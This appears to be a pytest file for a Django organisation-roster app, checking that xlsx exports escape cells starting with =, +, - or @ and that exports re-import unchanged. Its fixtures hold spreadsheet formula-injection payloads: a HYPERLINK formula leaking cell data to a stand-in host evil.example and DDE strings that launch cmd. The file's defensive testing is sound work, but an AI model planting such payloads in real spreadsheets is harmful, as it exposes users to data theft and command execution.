"""Exports never hand a spreadsheet a formula: text that starts with = + - @ is escaped.

Organisations with hostile names (created the normal way, through the service) go into the roster
xlsx and the re-import export; no cell of either file may be a formula, the hostile text must stand
escaped, and the export must import again with the names unchanged.
"""
from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from organizations.models import Organization
from organizations.services import organization_create
from reports.models import ReportRun, RunStatus
from reports.services import report_run_execute

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+86-591-12345678党支部",
    "-1+2党支部",
]
HOSTILE_SECRETARY = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(demo):
    """General branches with hostile names, each with one branch under it (so the names also stand,
    unindented, in the roster's parent column)."""
    made = []
    for i, name in enumerate(HOSTILE):
        org = organization_create(actor=demo.users["township"], parent=demo.township, name=name, kind="general_branch",
                                  domain="village", secretary_name=HOSTILE_SECRETARY)
        organization_create(actor=demo.users["township"], parent=org, name=f"第{i + 1}党支部", kind="branch",
                            domain="village", member_count=10)
        made.append(org)
    return made


def cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for row in wb.worksheets[0].iter_rows() for cell in row if cell.value is not None]


def assert_escaped(data: bytes) -> None:
    found = cells(data)
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    texts = [c.value for c in found if isinstance(c.value, str)]
    for text in texts:  # (the roster indents names with ideographic spaces: a text cell, never a formula)
        assert not text.startswith(("=", "+", "-", "@")), f"unescaped cell {text!r}"
    for name in HOSTILE:
        assert "'" + name in texts, f"{name!r} not escaped in the file"


def test_roster_xlsx_escapes_cells_that_start_like_formulas(demo, hostile):
    run = ReportRun.objects.create(kind="roster", fmt="xlsx", organization=demo.township,
                                   requested_by=demo.users["township"])
    run = report_run_execute(run.pk)
    assert run.status == RunStatus.DONE, run.error
    with run.file.open("rb") as handle:
        data = handle.read()
    assert_escaped(data)
    assert "'" + HOSTILE_SECRETARY in [c.value for c in cells(data)]


def test_the_reimport_export_escapes_and_imports_again_unchanged(demo, hostile, client_for):
    client = client_for("township")
    response = client.get(reverse("organizations:org-export", args=[demo.township.pk]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert_escaped(data)
    before = Organization.objects.count()
    response = client.post(reverse("organizations:org-import", args=[demo.township.pk]),
                           {"file": SimpleUploadedFile("export.xlsx", data)})  # the file as downloaded
    assert response.status_code == 302, response.content.decode()[-2000:]
    assert Organization.objects.count() == before
    for name in HOSTILE:
        org = Organization.objects.get(parent=demo.township, name=name)
        assert org.secretary_name == HOSTILE_SECRETARY
        assert org.children.get().name.endswith("党支部")
